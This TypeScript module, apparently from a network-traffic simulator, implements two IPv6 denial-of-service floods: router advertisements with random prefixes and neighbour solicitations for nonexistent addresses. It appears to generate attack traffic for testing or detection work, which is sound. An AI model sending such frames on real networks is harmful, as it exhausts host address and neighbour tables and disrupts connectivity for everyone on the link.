/** Floods of neighbour discovery (RFC 6583): routers and neighbours that do not exist. */
import type { Attack } from "../attack.ts";
import { cardMac, gap, randomBytes } from "../chance.ts";
import {
  allNodes,
  linkLayerOption,
  linkLocal,
  multicastMac,
  neighbourFrame,
  solicitation,
} from "../ipv6-frames.ts";

const ownPrefix = Buffer.from("20010db800000001", "hex");

/** Each one a new router with a new network, of which every host takes an address. */
export const raFlood: Attack = ({ random, emit }) => {
  return (atUs) => {
    const mac = cardMac(random);
    // Hop limit, flags, lifetime of 1800 s | two timers
    const head = Buffer.from("400007080000000000000000", "hex");
    // Prefix of 64 bits, on the link and for addresses, for ever
    const prefix = Buffer.alloc(32);
    prefix.set(Buffer.from("030440c0ffffffffffffffff00000000", "hex"));
    prefix.set([0x2a, 0x01], 16);
    prefix.set(randomBytes(random, 6), 18);
    const body = Buffer.concat([head, prefix, linkLayerOption(1, mac)]);
    const ends = {
      toMac: multicastMac(allNodes),
      fromMac: mac,
      source: linkLocal(mac),
      destination: allNodes,
    };
    emit(atUs, neighbourFrame(ends, 134, body));
    return gap(random, 5000);
  };
};

/** A host asks for one neighbour after another whom nobody knows, and fills the tables of all. */
export const nsFlood: Attack = ({ random, cast, emit }) => {
  const { mac } = cast.host();
  return (atUs) => {
    const target = Buffer.concat([ownPrefix, randomBytes(random, 8)]);
    emit(atUs, solicitation(mac, linkLocal(mac), target));
    return gap(random, 4000);
  };
};
